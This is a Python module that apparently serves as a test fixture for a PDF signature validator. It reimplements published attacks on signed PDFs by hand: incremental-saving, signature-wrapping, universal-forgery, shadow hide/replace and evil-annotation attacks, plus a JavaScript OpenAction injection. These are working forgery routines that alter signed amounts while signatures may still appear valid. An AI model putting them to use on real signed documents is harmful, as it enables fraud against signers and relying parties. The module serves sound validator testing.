"""Published attacks on signed PDF files, built by hand from their descriptions.

Universal forgery, incremental saving and wrapping: Mladenov et al., "1 Trillion Dollar Refund" (2019). Hide, replace,
hide-and-replace: Mainka et al., "Shadow Attacks" (2021). Evil annotation and sneaky signature: Rohlmann et al.,
"Breaking the Specification: PDF Certification" (2021).
"""

from __future__ import annotations

import io
import re
from typing import Any

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

N = generic.NameObject
_RANGE = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]")


def increment(pdf: bytes, change: Any) -> bytes:
    """An ordinary incremental update; ``change(writer)`` makes it."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def stream(data: bytes, **entries: Any) -> generic.StreamObject:
    found = generic.StreamObject(stream_data=data)
    for key, value in entries.items():
        found[N("/" + key)] = value
    return found


def numbers(*values: float) -> generic.ArrayObject:
    return generic.ArrayObject([generic.FloatObject(v) for v in values])


def font(writer: Any) -> Any:
    return generic.DictionaryObject(
        {
            N("/Type"): N("/Font"),
            N("/Subtype"): N("/Type1"),
            N("/BaseFont"): N("/Times-Roman"),
        }
    )


def form_xobject(writer: Any, content: bytes, width: float, height: float) -> Any:
    fonts = generic.DictionaryObject({N("/F"): font(writer)})
    return writer.add_object(
        stream(
            content,
            Type=N("/XObject"),
            Subtype=N("/Form"),
            BBox=numbers(0, 0, width, height),
            Resources=generic.DictionaryObject({N("/Font"): fonts}),
        )
    )


def page_of(writer: Any, index: int = 0) -> Any:
    return writer.find_page_for_modification(index)[0].get_object()


# -- incremental saving ------------------------------------------------------------------------------------------


def isa_page_text(pdf: bytes, text: bytes = b"Dieu 9. Them moi") -> bytes:
    """Page content appended with a proper table."""

    def change(writer: Any) -> None:
        body = writer.add_object(stream(b"BT /FX 13 Tf 60 640 Td (" + text + b") Tj ET"))
        fonts = generic.DictionaryObject({N("/FX"): font(writer)})
        writer.add_stream_to_page(0, body, generic.DictionaryObject({N("/Font"): fonts}))

    return increment(pdf, change)


def isa_new_page(pdf: bytes) -> bytes:
    def change(writer: Any) -> None:
        from pyhanko.pdf_utils.writer import PageObject

        body = writer.add_object(stream(b"0 0 300 300 re f"))
        writer.insert_page(PageObject(contents=body, media_box=(0, 0, 595, 842)))

    return increment(pdf, change)


def content_object(pdf: bytes) -> tuple[int, bytes]:
    """Number and header of the first page's content stream, for overriding it by raw bytes."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    page = writer.prev.root["/Pages"]["/Kids"][0]
    contents = page.raw_get("/Contents")
    contents = contents[0] if isinstance(contents, generic.ArrayObject) else contents
    if not isinstance(contents, generic.IndirectObject):
        contents = page["/Contents"].raw_get(0)
    return contents.idnum, b"%d 0 obj" % contents.idnum


EVIL = b"BT /F1 20 Tf 60 700 Td (9.999.999.999 dong) Tj ET"


def _evil_object(pdf: bytes) -> bytes:
    _, head = content_object(pdf)
    return b"\n" + head + b"\n<</Length %d>>\nstream\n" % len(EVIL) + EVIL + b"\nendstream\nendobj\n"


def isa_no_xref(pdf: bytes) -> bytes:
    """Objects after the end, no table, no trailer: viewers rebuild the table."""
    return pdf + _evil_object(pdf)


def isa_trailer_only(pdf: bytes) -> bytes:
    return pdf + _evil_object(pdf) + b"trailer\n<</Root 1 0 R>>\n%%EOF\n"


def isa_old_startxref(pdf: bytes) -> bytes:
    """Objects appended, and the old startxref repeated so that a strict reader sees nothing new."""
    old = re.findall(rb"startxref\s+(\d+)", pdf)[-1]
    return pdf + _evil_object(pdf) + b"startxref\n" + old + b"\n%%EOF\n"


def isa_broken_startxref(pdf: bytes) -> bytes:
    return pdf + _evil_object(pdf) + b"startxref\n99999999\n%%EOF\n"


def isa_copied_signature(pdf: bytes) -> bytes:
    """Content appended, then the signature's own dictionary copied after it."""
    changed = isa_page_text(pdf)
    match = re.search(rb"(\d+) 0 obj\s*<<(?:(?!endobj).)*?/ByteRange(?:(?!endobj).)*endobj", pdf, re.S)
    assert match
    at = len(changed) + 1
    copy = b"\n" + match.group() + b"\n"
    old = re.findall(rb"startxref\s+(\d+)", changed)[-1]
    xref = b"xref\n%s 1\n%010d 00000 n \n" % (match.group(1), at)
    size = max(int(s) for s in re.findall(rb"/Size (\d+)", changed))
    root = re.findall(rb"/Root (\d+ \d+ R)", changed)[-1]
    trailer = b"trailer\n<</Size %d /Root %s /Prev %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        root,
        old,
        at + len(copy) - 1,
    )
    return changed + copy + xref + trailer


# -- signature wrapping ------------------------------------------------------------------------------------------


def swa_moved_tail(pdf: bytes) -> bytes:
    """The second signed part is moved to the end; new objects stand in the widened gap."""
    match = list(_RANGE.finditer(pdf))[-1]
    _, b, c, d = (int(g) for g in match.groups())
    evil = _evil_object(pdf)
    head, contents, tail = pdf[:b], pdf[b:c], pdf[c : c + d]
    moved = head + contents + evil + tail
    new = b"/ByteRange [0 %d %d %d]" % (b, c + len(evil), d)
    old = match.group()
    if len(new) <= len(old):
        moved = moved.replace(old, new + b" " * (len(old) - len(new)))
    return moved


def swa_wide_gap(pdf: bytes) -> bytes:
    """The gap is declared wider than the signature, so that bytes after it are free."""
    match = list(_RANGE.finditer(pdf))[-1]
    _, b, c, d = (int(g) for g in match.groups())
    return _with_range(pdf, match, 0, b, c + 20, d - 20)


def _with_range(pdf: bytes, match: re.Match[bytes], *values: int) -> bytes:
    new = b"/ByteRange [%d %d %d %d]" % values
    width = len(match.group())
    end = match.end()
    while len(new) > width and pdf[end : end + 1] == b" ":
        width, end = width + 1, end + 1
    assert len(new) <= width, "no room"
    return pdf[: match.start()] + new.ljust(width) + pdf[end:]


# -- universal forgery -------------------------------------------------------------------------------------------


def usf(pdf: bytes, variant: str) -> bytes:
    """The signature's dictionary mutilated in place, by variant, without changing the file's length."""
    match = list(_RANGE.finditer(pdf))[-1]
    _, b, c, _ = (int(g) for g in match.groups())
    if variant == "contents-null":
        return pdf[:b] + b"null".ljust(c - b) + pdf[c:]
    if variant == "contents-zero":
        return pdf[:b] + b"<00>".ljust(c - b) + pdf[c:]
    if variant == "contents-empty":
        return pdf[:b] + b"<>".ljust(c - b) + pdf[c:]
    if variant == "contents-all-zeros":
        return pdf[:b] + b"<" + b"0" * (c - b - 2) + b">" + pdf[c:]
    if variant == "contents-missing":
        at = pdf.rfind(b"/Contents", 0, b + 1)
        return pdf[:at] + b"/Xontents" + pdf[at + 9 :]
    text = match.group()
    values = {
        "range-missing": b"/XyteRange" + text[10:],
        "range-null": b"/ByteRange null",
        "range-empty": b"/ByteRange []",
        "range-negative": b"/ByteRange [0 -1 1 9]",
        "range-zero": b"/ByteRange [0 0 0 0]",
        "range-short": b"/ByteRange [0 9]",
    }
    return pdf[: match.start()] + values[variant].ljust(len(text)) + pdf[match.end() :]


USF_VARIANTS = (
    "contents-null",
    "contents-zero",
    "contents-empty",
    "contents-all-zeros",
    "contents-missing",
    "range-missing",
    "range-null",
    "range-empty",
    "range-negative",
    "range-zero",
    "range-short",
)


# -- shadow attacks ----------------------------------------------------------------------------------------------


def shadow_original(kind: str) -> bytes:
    """A document prepared by the attacker before the victim signs it."""
    import pikepdf

    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(595, 842))
    times = pdf.make_indirect(pikepdf.Dictionary(Type=N2("Font"), Subtype=N2("Type1"), BaseFont=N2("Times-Roman")))
    page.obj.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F=times))
    shown = b"BT /F 20 Tf 60 700 Td (Ung ho 100 dong) Tj ET "
    page.obj.Contents = pdf.make_stream(shown)
    if kind == "hide":
        pdf.Root.Shadow = pdf.make_indirect(pikepdf.Array([]))
        cover = pdf.make_stream(b"1 1 1 rg 0 0 595 842 re f 0 g BT /F 20 Tf 9 9 Td (bia) Tj ET")
        cover.Type, cover.Subtype, cover.BBox = N2("XObject"), N2("Form"), pikepdf.Array([0, 0, 595, 842])
        cover.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F=times))
        page.obj.Contents = pdf.make_stream(b"BT /F 20 Tf 60 700 Td (Ung ho 999 dong) Tj ET /Over Do")
        page.obj.Resources.XObject = pikepdf.Dictionary(Over=cover)
    if kind == "hide-and-replace":
        other = pdf.make_stream(b"BT /F 20 Tf 60 700 Td (Ung ho 999.999.999 dong) Tj ET")
        twin = pikepdf.Dictionary(
            Type=N2("Page"), MediaBox=[0, 0, 595, 842], Resources=page.obj.Resources, Contents=other
        )
        pages = pdf.make_indirect(pikepdf.Dictionary(Type=N2("Pages"), Count=1, Kids=[pdf.make_indirect(twin)]))
        twin = pages.Kids[0]
        twin.Parent = pages
        pdf.Root.Spare = pages
    if kind in ("form", "font"):
        field = pdf.make_indirect(
            pikepdf.Dictionary(
                Type=N2("Annot"),
                Subtype=N2("Widget"),
                FT=N2("Tx"),
                T="so_tien",
                V="100 dong",
                Rect=[60, 600, 300, 630],
                F=4,
                DA="/F 16 Tf 0 g",
                P=page.obj,
            )
        )
        look = pdf.make_stream(b"/Tx BMC BT /F 16 Tf 2 8 Td (100 dong) Tj ET EMC")
        look.Type, look.Subtype, look.BBox = N2("XObject"), N2("Form"), pikepdf.Array([0, 0, 240, 30])
        look.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F=times))
        field.AP = pikepdf.Dictionary(N=look)
        page.obj.Annots = pikepdf.Array([field])
        pdf.Root.AcroForm = pdf.make_indirect(
            pikepdf.Dictionary(
                Fields=pikepdf.Array([field]),
                DR=pikepdf.Dictionary(Font=pikepdf.Dictionary(F=times)),
                DA="/F 16 Tf 0 g",
            )
        )
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return out.getvalue()


def N2(name: str) -> Any:
    import pikepdf

    return pikepdf.Name("/" + name)


def shadow_hide(pdf: bytes) -> bytes:
    """The overlay that hid the true text is emptied."""

    def change(writer: Any) -> None:
        page = writer.prev.root["/Pages"]["/Kids"][0]
        over = page["/Resources"]["/XObject"].raw_get("/Over")
        writer.objects[(over.generation, over.idnum)] = stream(
            b"", Type=N("/XObject"), Subtype=N("/Form"), BBox=numbers(0, 0, 1, 1)
        )

    return increment(pdf, change)


def shadow_hide_by_free(pdf: bytes) -> bytes:
    """The overlay's table entry is marked free: the object is simply gone."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    over = writer.prev.root["/Pages"]["/Kids"][0]["/Resources"]["/XObject"].raw_get("/Over")
    old = re.findall(rb"startxref\s+(\d+)", pdf)[-1]
    size = max(int(s) for s in re.findall(rb"/Size (\d+)", pdf))
    root = re.findall(rb"/Root (\d+ \d+ R)", pdf)[-1]
    at = len(pdf)
    return (
        pdf
        + b"xref\n%d 1\n0000000000 00001 f \ntrailer\n<</Size %d /Root %s /Prev %s>>\nstartxref\n%d\n%%%%EOF\n"
        % (
            over.idnum,
            size,
            root,
            old,
            at,
        )
    )


def shadow_replace_font(pdf: bytes) -> bytes:
    def change(writer: Any) -> None:
        page = writer.prev.root["/Pages"]["/Kids"][0]
        used = page["/Resources"]["/Font"].raw_get("/F")
        other = font(writer)
        other[N("/BaseFont")] = N("/Symbol")
        writer.objects[(used.generation, used.idnum)] = other

    return increment(pdf, change)


def shadow_replace_value(pdf: bytes, value: str = "999.999 dong") -> bytes:
    """The form field gets another value and another appearance."""

    def change(writer: Any) -> None:
        field = writer.root["/AcroForm"]["/Fields"][0]
        field[N("/V")] = generic.pdf_string(value)
        look = form_xobject(writer, b"BT /F 16 Tf 2 8 Td (" + value.encode() + b") Tj ET", 240, 30)
        field[N("/AP")] = generic.DictionaryObject({N("/N"): look})
        writer.update_container(field)

    return increment(pdf, change)


def shadow_hide_and_replace(pdf: bytes) -> bytes:
    """The catalog's page tree is exchanged for the one that lay hidden in the signed bytes."""

    def change(writer: Any) -> None:
        writer.root[N("/Pages")] = writer.root.raw_get("/Spare")
        writer.update_root()

    return increment(pdf, change)


def shadow_table_only(pdf: bytes) -> bytes:
    """Only a table is appended: the page's content number points at another object of the signed bytes."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    root = writer.prev.root
    shown = root["/Pages"]["/Kids"][0].raw_get("/Contents").idnum
    hidden = root["/Spare"]["/Kids"][0].raw_get("/Contents").idnum
    # The hidden twin must carry the shown number: found by its header.
    at = re.search(rb"(?<!\d)%d 0 obj" % hidden, pdf)
    assert at
    old = re.findall(rb"startxref\s+(\d+)", pdf)[-1]
    size = max(int(s) for s in re.findall(rb"/Size (\d+)", pdf))
    ref = re.findall(rb"/Root (\d+ \d+ R)", pdf)[-1]
    end = len(pdf)
    return pdf + b"xref\n%d 1\n%010d 00000 n \ntrailer\n<</Size %d /Root %s /Prev %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        shown,
        at.start(),
        size,
        ref,
        old,
        end,
    )


# -- certified documents -----------------------------------------------------------------------------------------


def evil_annotation(pdf: bytes, subtype: str = "/FreeText", rect: tuple[float, ...] = (50, 690, 420, 720)) -> bytes:
    """An annotation that hides signed text under a white box with other text."""

    def change(writer: Any) -> None:
        width, height = rect[2] - rect[0], rect[3] - rect[1]
        look = form_xobject(
            writer,
            b"1 1 1 rg 0 0 %d %d re f 0 g BT /F 13 Tf 10 10 Td (9.999.999 dong) Tj ET" % (width, height),
            width,
            height,
        )
        note = writer.add_object(
            generic.DictionaryObject(
                {
                    N("/Type"): N("/Annot"),
                    N("/Subtype"): N(subtype),
                    N("/Rect"): numbers(*rect),
                    N("/F"): generic.NumberObject(4),
                    N("/Contents"): generic.pdf_string("x"),
                    N("/DA"): generic.pdf_string("/F 13 Tf 0 g"),
                    N("/AP"): generic.DictionaryObject({N("/N"): look}),
                }
            )
        )
        page = page_of(writer)
        if "/Annots" in page:
            page["/Annots"].append(note)
            writer.update_container(page["/Annots"])
        else:
            page[N("/Annots")] = generic.ArrayObject([note])
        writer.update_container(page)

    return increment(pdf, change)


def write_number(
    pdf: bytes, number: bytes = b"12", day: bytes = b"22", month: bytes = b"11", more: bytes = b""
) -> bytes:
    """Number and date written into the page content, as the usual signing tools do."""

    def change(writer: Any) -> None:
        body = writer.add_object(
            stream(
                b"q BT /FX 13 Tf 90 760 Td ("
                + number
                + b") Tj ET BT /FX 13 Tf 362 760 Td ("
                + day
                + b") Tj ET BT /FX 13 Tf 428 760 Td ("
                + month
                + b") Tj ET "
                + more
                + b" Q"
            )
        )
        fonts = generic.DictionaryObject({N("/FX"): font(writer)})
        writer.add_stream_to_page(0, body, generic.DictionaryObject({N("/Font"): fonts}))

    return increment(pdf, change)


# -- signatures of attackers -------------------------------------------------------------------------------------


def attacker_signs(
    pdf: bytes, key: Any, rect: tuple[float, float, float, float], name: str = "Lén", *, spoil: bool = False
) -> bytes:
    """A signature with an opaque appearance, by a tool that asks no DocMDP; ``spoil`` breaks its CMS."""
    from pyhanko.sign import fields, signers
    from pyhanko.stamp import TextStampStyle

    from congvan_core.signatures.sign_signer import KeySigner

    class Careless(signers.PdfSigner):  # type: ignore[misc]
        def _enforce_certification_constraints(self, reader: object) -> None:
            """Asks nobody."""

    meta = signers.PdfSignatureMetadata(field_name=name, md_algorithm="sha256")
    style = TextStampStyle(stamp_text="9.999.999 dong\n9.999.999 dong", border_width=3)
    spec = fields.SigFieldSpec(name, on_page=0, box=tuple(int(v) for v in rect))
    tool = Careless(meta, signer=KeySigner(key), stamp_style=style, new_field_spec=spec)
    out = tool.sign_pdf(IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)).getvalue()
    if spoil:
        match = list(_RANGE.finditer(out))[-1]
        used = out[int(match.group(2)) : int(match.group(3))].rstrip(b"0>")
        middle = int(match.group(2)) + len(used) - 100  # inside the signature value, the last field
        out = out[:middle] + (b"00" if out[middle : middle + 2] != b"00" else b"11") + out[middle + 2 :]
    return bytes(out)


def without_prev(pdf: bytes) -> bytes:
    """A table that knows only the catalog and pages of its own; everything signed is forgotten."""
    start = len(pdf)
    parts, offsets = b"", {}
    objects = {
        900: b"<</Type/Catalog/Pages 901 0 R>>",
        901: b"<</Type/Pages/Count 1/Kids[902 0 R]>>",
        902: b"<</Type/Page/Parent 901 0 R/MediaBox[0 0 595 842]/Contents 903 0 R>>",
        903: b"<</Length 15>>\nstream\n0 0 300 300 re f\nendstream",
    }
    for number, body in objects.items():
        offsets[number] = start + len(parts)
        parts += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = b"xref\n0 1\n0000000000 65535 f \n900 4\n" + b"".join(b"%010d 00000 n \n" % o for o in offsets.values())
    return pdf + parts + table + b"trailer\n<</Size 904/Root 900 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (start + len(parts))


def open_action(pdf: bytes) -> bytes:
    def change(writer: Any) -> None:
        writer.root[N("/OpenAction")] = generic.DictionaryObject(
            {
                N("/S"): N("/JavaScript"),
                N("/JS"): generic.pdf_string("app.alert(1)"),
            }
        )
        writer.update_root()

    return increment(pdf, change)


def move_page_box(pdf: bytes) -> bytes:
    def change(writer: Any) -> None:
        page = page_of(writer)
        page[N("/CropBox")] = numbers(0, 0, 300, 300)
        writer.update_container(page)

    return increment(pdf, change)


def replace_signature_look(pdf: bytes) -> bytes:
    """The appearance of an existing signature is exchanged."""

    def change(writer: Any) -> None:
        field = writer.root["/AcroForm"]["/Fields"][0]
        rect = [float(v) for v in field["/Rect"]]
        look = form_xobject(writer, b"1 0 0 rg 0 0 90 90 re f", rect[2] - rect[0], rect[3] - rect[1])
        field[N("/AP")] = generic.DictionaryObject({N("/N"): look})
        writer.update_container(field)

    return increment(pdf, change)


def number_stamp(pdf: bytes, text: bytes, rect: tuple[float, ...]) -> bytes:
    """Text on the page as a stamp annotation with a transparent ground."""

    def change(writer: Any) -> None:
        width, height = rect[2] - rect[0], rect[3] - rect[1]
        look = form_xobject(writer, b"BT /F 13 Tf 0 8 Td (" + text + b") Tj ET", width, height)
        stamp = {
            N("/Type"): N("/Annot"),
            N("/Subtype"): N("/Stamp"),
            N("/Rect"): numbers(*rect),
            N("/F"): generic.NumberObject(4),
            N("/AP"): generic.DictionaryObject({N("/N"): look}),
        }
        note = writer.add_object(generic.DictionaryObject(stamp))
        page = page_of(writer)
        page["/Annots"].append(note)
        writer.update_container(page["/Annots"])

    return increment(pdf, change)
